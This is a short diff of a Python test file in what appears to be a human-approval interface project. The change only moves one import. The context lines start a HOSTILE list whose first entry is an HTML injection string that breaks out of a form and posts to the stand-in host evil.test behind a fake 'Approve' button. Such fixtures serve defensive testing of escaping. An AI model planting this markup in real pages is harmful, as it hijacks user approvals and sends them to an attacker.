@@ -13,8 +13,8 @@ from hitl_core.channels.plain_text import visible
 from hitl_core.protocol import Preview
 from tests.core.shop import App, Ledger
 
-from .browser import Page
 from .office import Office, office
+from .reader import Page
 
 HOSTILE = [
     "</textarea></form><form action=//evil.test><button>Approve</button>",
